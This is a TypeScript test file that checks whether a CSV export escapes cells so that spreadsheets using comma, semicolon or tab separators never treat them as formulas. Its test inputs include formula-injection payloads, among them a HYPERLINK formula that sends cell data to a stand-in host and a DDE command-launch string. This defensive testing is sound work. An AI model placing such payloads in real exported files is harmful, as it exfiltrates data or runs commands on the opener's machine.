import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv.js';

/**
 * How a spreadsheet splits a CSV line: Excel uses the locale's list separator (`,` in English, `;` in French and
 * much of Europe), LibreOffice and Sheets guess it (tab among others). A field is quoted only when a `"` opens it, so a
 * quote that protects a cell in one reading is plain text in another. Returns each field as the spreadsheet sees it.
 */
function spreadsheetFields(csv: string, separator: string): string[] {
  const fields: string[] = [];
  let i = 0;
  while (i <= csv.length) {
    let value = '';
    if (csv[i] === '"') {
      i++;
      while (i < csv.length) {
        if (csv[i] === '"' && csv[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (csv[i] === '"') {
          i++;
          break;
        } else value += csv[i++];
      }
    }
    while (i < csv.length && csv[i] !== separator && csv[i] !== '\n' && csv[i] !== '\r') value += csv[i++];
    fields.push(value);
    i++;
  }
  return fields;
}

// What a spreadsheet runs as a formula; Sheets trims leading spaces, so they do not make a field safe.
const runsAsFormula = (field: string) => /^[ \t]*[=+\-@]/.test(field);

describe('CSV cells a spreadsheet could run', () => {
  it.for([
    ['x;=1+1', ';'],
    ['x;=HYPERLINK("http://evil.example/?"&A1)', ';'],
    ["note\t+1+cmd|' /C calc'!A0", '\t'],
    ['a; -2+3', ';'],
    ['a;"=1+1"', ';'],
    ['a,@SUM(1)', ';'],
    ['line one\n=1+1', ';'],
    ['line one\r\n-1+1', ','],
    ['x , =1+1', ','],
  ] as Array<[string, string]>)('%j read with %j as the separator gives no formula field', ([cell, separator]) => {
    const line = csvRow(['id-1', cell, 'tail']);
    for (const field of spreadsheetFields(line.replace(/\r\n$/, ''), separator)) expect(runsAsFormula(field), JSON.stringify(field)).toBe(false);
  });

  it('no cell ever yields a formula field, whatever the separator the spreadsheet reads with', () => {
    const alphabet = fc.constantFrom('=', '+', '-', '@', ',', ';', '\t', '\r', '\n', ' ', '"', "'", 'a', '1', '(', ')');
    fc.assert(
      fc.property(fc.array(fc.string({ unit: alphabet, maxLength: 12 }), { minLength: 1, maxLength: 3 }), (cells) => {
        const line = csvRow(cells).replace(/\r\n$/, '');
        for (const separator of [',', ';', '\t']) for (const field of spreadsheetFields(line, separator)) if (runsAsFormula(field)) return false;
        return true;
      }),
      { numRuns: 3000 },
    );
  });

  it('keeps ordinary text as it was: a phone at the start is prefixed as before, words and numbers are not touched', () => {
    expect(csvCell('+33 6 12 34 56 78')).toBe("'+33 6 12 34 56 78");
    expect(csvCell('Camille Martin')).toBe('Camille Martin');
    expect(csvCell('jean-pierre@example.com')).toBe('jean-pierre@example.com');
    expect(csvCell('Prix 10-20 €, livraison 2-3 jours')).toBe('"Prix 10-20 €, livraison 2-3 jours"');
    expect(csvCell('a=b; c+d')).toBe('a=b; c+d');
    expect(csvCell('06 12 34 56 78')).toBe('06 12 34 56 78');
  });
});
